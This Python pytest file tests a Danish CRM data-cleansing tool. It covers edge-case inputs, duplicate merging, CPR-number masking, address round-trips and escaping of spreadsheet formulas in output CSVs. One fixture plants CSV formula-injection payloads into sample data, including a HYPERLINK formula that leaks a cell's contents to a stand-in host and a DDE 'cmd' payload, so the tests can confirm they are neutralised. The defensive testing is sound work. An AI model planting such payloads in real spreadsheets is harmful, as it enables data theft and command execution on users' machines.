"""Hostile but ordinary input ends in a finished run or exit 2 with one line (issue 9).

Each test carries the reproducer of the defect it guards against.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from datavask.cleansing.cpr import MASK
from datavask.connectors.output import read_excel_csv
from datavask.flows.cli import app

SAMPLE = Path(__file__).resolve().parents[2] / "data" / "sample"
HEADER = "Kundenr;Navn;Adresse;Postnr;By;Telefon;E-mail\n"
ROWS = [
    "1;Hansen Byg ApS;Vestergade 12;8000;Aarhus C;;",
    "2;Jensen VVS ApS;Nørregade 3;8000;Aarhus C;22378415;",
    "3;Møller A/S;Algade 1;4000;Roskilde;;",
    "4;Hansen Byg ApS;Vestergade 12;8000;Aarhus C;;info@hansenbyg.dk",
    "5;Lene Poulsen;Skovvej 9;5000;Odense C;;",
]


@pytest.fixture(autouse=True)
def _no_prefect(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATAVASK_ORCHESTRATION", "none")


def run_cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.output


def cleanse_text(tmp_path: Path, text: str, *args: str, name: str = "in.csv") -> Path:
    source = tmp_path / name
    source.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none", *args)
    assert code == 0, output
    return out


# ----------------------------------------------------------------- item 1: tiny and one-valued


@pytest.mark.parametrize("rows", [1, 2, 3, 4, 5])
def test_tiny_files_finish(tmp_path: Path, rows: int) -> None:
    out = cleanse_text(tmp_path, HEADER + "\n".join(ROWS[:rows]) + "\n")
    records = pl.read_parquet(out / "records.parquet")
    assert records["record_id"].to_list() == [str(i) for i in range(1, rows + 1)]


@pytest.mark.parametrize(
    "column", ["phone", "email"], ids=["one-switchboard-for-200", "one-email-of-200"]
)
def test_a_field_with_one_distinct_value_finishes(tmp_path: Path, column: str) -> None:
    rows = []
    for i in range(1, 201):
        phone = "33121212" if column == "phone" else ""
        email = "info@firma.dk" if column == "email" and i == 1 else ""
        rows.append(f"{i};Firma {i} ApS;Vej {i};8000;Aarhus C;{phone};{email}")
    out = cleanse_text(tmp_path, HEADER + "\n".join(rows) + "\n")
    assert pl.read_parquet(out / "records.parquet").height == 200


# ----------------------------------------------------------------- item 8: garbage registry


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("registry.txt", b"this is not a registry\n"),
        ("registry.jsonl", b""),
        ("registry.jsonl", b'{"cvr": "21265837"}\n{"cvr": "10000009"}\n'),
    ],
    ids=["text", "empty", "wrong-shape"],
)
def test_a_garbage_registry_snapshot_exits_2(tmp_path: Path, name: str, content: bytes) -> None:
    snapshot = tmp_path / name
    snapshot.write_bytes(content)
    source = tmp_path / "in.csv"
    source.write_text(HEADER + "\n".join(ROWS) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", str(snapshot))
    assert code == 2, output
    lines = [line for line in output.splitlines() if line.strip() and "━" not in line]
    assert lines[-1].startswith("error:") and "ERST documents" in output, output
    assert "Traceback" not in output
    assert not out.exists()


# ----------------------------------------------------------------- items 7 and 15: CSV hand-off

FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^[+\-][0-9 .,()/+\-]*$")


def _cells(path: Path, separator: str, encoding: str = "utf-8") -> list[str]:
    text = path.read_bytes().decode(encoding).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    return [cell for row in rows for cell in row]


@pytest.fixture(scope="module")
def planted_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled sample with formula payloads planted in every field, and an exact copy of
    one customer whose customer number is a payload (so the merge plan names it)."""
    tmp = tmp_path_factory.mktemp("planted")
    text = (SAMPLE / "customers.csv").read_bytes().decode("cp1252")
    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    payloads = [
        '=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1)", "-2+3+cmd|' /C calc'!A0",
        "+SUM(1)", "\t=1+1", "\r=1+1",
    ]  # fmt: skip
    for i, row in enumerate(rows[:60]):
        row[i % len(row)] = payloads[i % len(payloads)]
    rows.append(["=2+2", *rows[100][1:]])
    source = tmp / "planted.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([header, *rows])
    out = tmp / "out"
    with pytest.MonkeyPatch.context() as env:  # module scope: before the autouse fixture
        env.setenv("DATAVASK_ORCHESTRATION", "none")
        code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none")
    assert code == 0, output
    return out


@pytest.mark.parametrize(
    "name", ["changes.csv", "reimport/merge_plan.csv", "reimport/customers_update.csv"]
)
def test_no_output_csv_cell_runs_as_a_formula(planted_run: Path, name: str) -> None:
    cells = _cells(planted_run / name, ";")
    assert len(cells) > 100
    risky = [cell for cell in cells if FORMULA.match(cell) and not NUMBER.match(cell)]
    assert risky == []
    if name == "reimport/customers_update.csv":
        assert "'=1+1" in cells and "'@SUM(A1)" in cells
        assert any(re.fullmatch(r"\+45\d{8}", cell) for cell in cells)  # E.164 left as is
    if name == "reimport/merge_plan.csv":
        assert any("=2+2" in cell for cell in cells)  # the planted customer number is there


def test_changes_and_merge_plan_open_in_danish_excel(planted_run: Path) -> None:
    for name, header in (
        ("changes.csv", "record_id;field;before;after;rule"),
        ("reimport/merge_plan.csv", "survivor_id;merged_ids;score;crm_action"),
    ):
        data = (planted_run / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf" + header.encode()), (name, data[:80])
    assert any(ch in (planted_run / "changes.csv").read_text("utf-8-sig") for ch in "æøåÆØÅ")
    assert read_excel_csv(planted_run / "reimport" / "merge_plan.csv").height > 10


# ----------------------------------------------------------------- item 9: many identical copies


def test_sixty_identical_copies_are_one_customer(tmp_path: Path) -> None:
    """Every block of the copied customer is over the cap of 50; the copies still merge."""
    text = (SAMPLE / "customers.csv").read_bytes().decode("cp1252")
    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    copied = rows[4]
    copies = [[f"K{i}", *copied[1:]] for i in range(60)]
    rows = [*rows, *copies]
    source = tmp_path / "copies.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([header, *rows])
    out = tmp_path / "out"
    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none")
    assert code == 0, output
    records = pl.read_parquet(out / "records.parquet")
    ids = [*(f"K{i}" for i in range(60)), copied[0]]
    clusters = records.filter(pl.col("record_id").is_in(ids))["cluster_id"]
    assert clusters.n_unique() == 1
    assert records.filter(pl.col("cluster_id") == clusters[0]).height == len(ids)


@pytest.mark.parametrize("copies", [3, 100])
def test_a_file_of_nothing_but_copies_is_one_customer(tmp_path: Path, copies: int) -> None:
    """Every field agrees for every pair, so the scores weigh nothing; the copies still merge."""
    text = (SAMPLE / "customers.csv").read_bytes().decode("cp1252")
    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    source = tmp_path / "copies.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(
            [header, *([f"K{i}", *rows[4][1:]] for i in range(copies))]
        )
    out = tmp_path / "out"
    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none")
    assert code == 0, output
    records = pl.read_parquet(out / "records.parquet")
    assert records.height == copies
    assert records["cluster_id"].n_unique() == 1
    assert records["is_survivor"].sum() == 1
    plan = read_excel_csv(out / "reimport" / "merge_plan.csv")
    assert plan.height == 1 and plan["merged_ids"][0].count(";") == copies - 2


def test_a_swedish_customers_mobile_number_goes_back_as_a_phone_number(tmp_path: Path) -> None:
    """``0701234567`` has a CPR number's shape. In a Swedish record's phone column it is the
    customer's mobile number: the re-import writes it back in E.164, not as XXXXXX-XXXX, and the
    record is not flagged CPR_IN_DATA. The same cell in a Danish record is masked, and goes back
    empty: the mask written over the CRM's cell would be no phone number either."""
    text = (
        "Kundenr;Navn;Adresse;Postnr;By;Land;Telefon\n"
        "1;Svensson AB;Storgatan 1;111 22;Stockholm;Sverige;0701234567\n"
        "2;Müller GmbH;Hauptstraße 1;10115;Berlin;Tyskland;0301234567\n"
        "3;Jens Hansen;Algade 1;4000;Roskilde;Danmark;0701234567\n"
    )
    out = cleanse_text(tmp_path, text)
    update = read_excel_csv(out / "reimport" / "customers_update.csv")
    assert update["Telefon"].to_list() == ["+46701234567", "+49301234567", None]
    records = pl.read_parquet(out / "records.parquet")
    assert records["src_Telefon"].to_list() == ["0701234567", "0301234567", MASK]
    assert ["CPR_IN_DATA" in f for f in records["flags"].to_list()] == [False, False, True]


def test_the_reimport_never_writes_a_masked_cpr_number_over_the_crm(tmp_path: Path) -> None:
    """A CPR column and a note with a CPR number in it: loading customers_update.csv into the
    CRM must not replace the customers' numbers with XXXXXX-XXXX, so both columns are left out;
    the customer number and the cleaned fields are there, and run.json names what was left out."""
    text = (
        "Kundenr;Navn;Adresse;Postnr;By;CPR-nr;Bemærkning\n"
        "1;Jens Hansen;Vestergade 1;8000;Aarhus C;010190-1239;ring efter kl 16, cpr 0101901239\n"
        "2;Mette Olsen;Nørregade 3;1165;Kbh K;311299-4321;\n"
        "3;Lene Poulsen;Skovvej 9;5000;Odense C;;god kunde\n"
    )
    out = cleanse_text(tmp_path, text)
    update = read_excel_csv(out / "reimport" / "customers_update.csv")
    assert update.columns == ["Kundenr", "Navn", "Adresse", "Postnr", "By"]
    assert update["By"].to_list() == ["Aarhus C", "København K", "Odense C"]
    written = (out / "reimport" / "customers_update.csv").read_text(encoding="utf-8-sig")
    assert "XXXXXX" not in written
    run = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run["input"]["masked_columns"] == ["CPR-nr", "Bemærkning"]


def _cleanse_again(tmp_path: Path, first: Path) -> Path:
    again = tmp_path / "again"
    again.mkdir()
    text = (first / "reimport" / "customers_update.csv").read_text(encoding="utf-8-sig")
    return cleanse_text(again, text)


def test_floor_and_door_without_columns_of_their_own_go_back_where_they_were(
    tmp_path: Path,
) -> None:
    """A CRM with a house-number column and no floor or door column writes ``12B, 2. th`` in it;
    one with a floor column and no door column writes ``2. th`` in that. Both are read (the
    number was lost before) and go back whole (the door was dropped before), and the re-import
    cleansed again changes nothing."""
    text = (
        "Kundenr;Navn;Vejnavn;Husnr;Postnr;By\n"
        "1;Hansen Byg ApS;Vestergade;12B, 2. th;8000;Aarhus C\n"
        "2;Olsen ApS;Nørregade;3 st.;1165;København K\n"
        "3;Lund ApS;Hovedgaden;4, Vester Hassing;9310;Vodskov\n"
        "4;Berg ApS;Algade 7, 1. tv;;4000;Roskilde\n"
        "5;Ko ApS;Algade;12 B;4000;Roskilde\n"
    )
    out = cleanse_text(tmp_path, text)
    records = pl.read_parquet(out / "records.parquet")
    assert records.select("house_number", "floor", "door").rows() == [
        ("12B", "2", "th"), ("3", "st", None), ("4", None, None), ("7", "1", "tv"),
        ("12B", None, None),
    ]  # fmt: skip
    update = read_excel_csv(out / "reimport" / "customers_update.csv")
    assert update.select("Vejnavn", "Husnr").rows() == [
        ("Vestergade", "12B, 2. th"), ("Nørregade", "3, st."), ("Hovedgaden", "4, Vester Hassing"),
        ("Algade", "7, 1. tv"), ("Algade", "12B"),
    ]  # fmt: skip
    assert read_excel_csv(_cleanse_again(tmp_path, out) / "changes.csv").height == 0

    floors = tmp_path / "floors"
    floors.mkdir()
    text = (
        "Kundenr;Navn;Vejnavn;Husnr;Etage;Postnr;By\n"
        "1;Hansen Byg ApS;Vestergade;12B;2. th;8000;Aarhus C\n"
        "2;Jensen ApS;Vestergade;14;2.th.;8000;Aarhus C\n"
        "3;Olsen ApS;Nørregade;3;st;1165;København K\n"
    )
    out = cleanse_text(floors, text)
    update = read_excel_csv(out / "reimport" / "customers_update.csv")
    assert update["Etage"].to_list() == ["2. th", "2. th", "st"]
    assert read_excel_csv(_cleanse_again(floors, out) / "changes.csv").height == 0


def test_a_village_after_a_street_without_a_number_goes_back(tmp_path: Path) -> None:
    """``Lundgården, Vester Hassing``: a farm without a house number and its village. The
    village was dropped from the line written back, in a one-line address column and in a
    street column beside a house-number column alike."""
    for header, row in (
        ("Kundenr;Navn;Adresse;Postnr;By", "1;Lund ApS;Lundgården, Vester Hassing;9310;Vodskov"),
        (
            "Kundenr;Navn;Vejnavn;Husnr;Postnr;By",
            "1;Lund ApS;Lundgården, Vester Hassing;;9310;Vodskov",
        ),
    ):
        run = tmp_path / header.split(";")[2]
        run.mkdir()
        out = cleanse_text(run, f"{header}\n{row}\n")
        records = pl.read_parquet(out / "records.parquet")
        assert records.select("street", "address_extra").row(0) == ("Lundgården", "Vester Hassing")
        update = read_excel_csv(out / "reimport" / "customers_update.csv")
        assert update[header.split(";")[2]].to_list() == ["Lundgården, Vester Hassing"]
        assert read_excel_csv(_cleanse_again(run, out) / "changes.csv").height == 0
